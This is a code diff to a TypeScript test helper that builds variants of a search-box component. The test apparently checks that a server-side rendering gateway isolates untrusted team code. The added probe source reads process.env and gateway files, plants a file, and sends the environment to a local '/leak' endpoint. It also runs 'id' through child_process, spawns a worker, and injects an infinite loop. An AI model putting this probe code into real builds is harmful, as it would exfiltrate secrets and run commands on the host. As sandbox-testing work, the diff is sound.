@@ -25,7 +25,15 @@ export async function buildSearchVariants(
     throwAlways = [],
     throwInBrowser = [],
     throwOnServerAt = {},
-  }: { throwAlways?: string[]; throwInBrowser?: string[]; throwOnServerAt?: Record<string, string> } = {},
+    probeOnServer = {},
+    spinOnServerAt = {},
+  }: {
+    throwAlways?: string[];
+    throwInBrowser?: string[];
+    throwOnServerAt?: Record<string, string>;
+    probeOnServer?: Record<string, ServerProbe>;
+    spinOnServerAt?: Record<string, string>;
+  } = {},
 ): Promise<Record<string, string>> {
   const root = mkdtempSync(path.join(tmpdir(), 'mf-search-builds-'));
   const configs: Configuration[] = [];
@@ -46,6 +54,26 @@ export async function buildSearchVariants(
       'className="search-panel__list"',
       `className="search-panel__list" data-build="${mark}"`,
     );
+    const probe = probeOnServer[mark];
+    if (probe) {
+      edit(
+        path.join(source, 'src', 'search-box.tsx'),
+        `{'Search, build ${mark}'}`,
+        `{'Search, build ${mark} ' + probed()}`,
+      );
+      writeFileSync(
+        path.join(source, 'src', 'search-box.tsx'),
+        `${readFileSync(path.join(source, 'src', 'search-box.tsx'), 'utf8')}\n${probeSource(probe)}`,
+      );
+    }
+    if (spinOnServerAt[mark]) {
+      const condition = `typeof document === 'undefined' && useLocation().pathname === ${JSON.stringify(spinOnServerAt[mark])}`;
+      edit(
+        path.join(source, 'src', 'search-box.tsx'),
+        '  const intl = useIntl();',
+        `  if (${condition}) for (;;) {}\n  const intl = useIntl();`,
+      );
+    }
     const throwsAt = throwOnServerAt[mark];
     if (throwAlways.includes(mark)) {
       edit(
@@ -94,6 +122,44 @@ export async function buildSearchVariants(
   }
   await compile(configs);
   return dists;
+}
+
+/** What a hostile build's server code tries to reach: a file of the gateway's and a listener of the test's. */
+export interface ServerProbe {
+  files: string[];
+  port: number;
+}
+
+/**
+ * Code for a build's module that, rendered on the server, tries everything a team's code could to reach
+ * past the page: the environment, the gateway's files, the network (a listener the test counts), a child
+ * process, a worker. `probed()` answers what each attempt got, as JSON, for the box's label; in a browser,
+ * nothing.
+ */
+function probeSource({ files, port }: ServerProbe): string {
+  return `
+declare const __non_webpack_require__: NodeJS.Require;
+function probed(): string {
+  if (typeof document !== 'undefined') return '';
+  const report: Record<string, string> = {};
+  const attempt = (name: string, run: () => unknown) => {
+    try {
+      report[name] = String(run()).slice(0, 400);
+    } catch (error) {
+      report[name] = 'refused ' + String((error as { code?: string }).code ?? error);
+    }
+  };
+  const node = __non_webpack_require__;
+  attempt('env', () => JSON.stringify(process.env));
+  ${JSON.stringify(files)}.forEach((file, index) => attempt('file' + index, () => node('node:fs').readFileSync(file, 'utf8')));
+  attempt('write', () => node('node:fs').writeFileSync(${JSON.stringify(`${files[0]}.planted`)}, 'x'));
+  attempt('connect', () => node('node:net').connect(${port}, '127.0.0.1').on('error', () => {}));
+  attempt('fetch', () => fetch('http://127.0.0.1:${port}/leak?env=' + encodeURIComponent(JSON.stringify(process.env))));
+  attempt('childProcess', () => node('node:child_process').execSync('id'));
+  attempt('worker', () => new (node('node:worker_threads').Worker)('1', { eval: true }));
+  return JSON.stringify(report);
+}
+`;
 }
 
 /** Runs webpack once on `configs`; fails with their errors. */
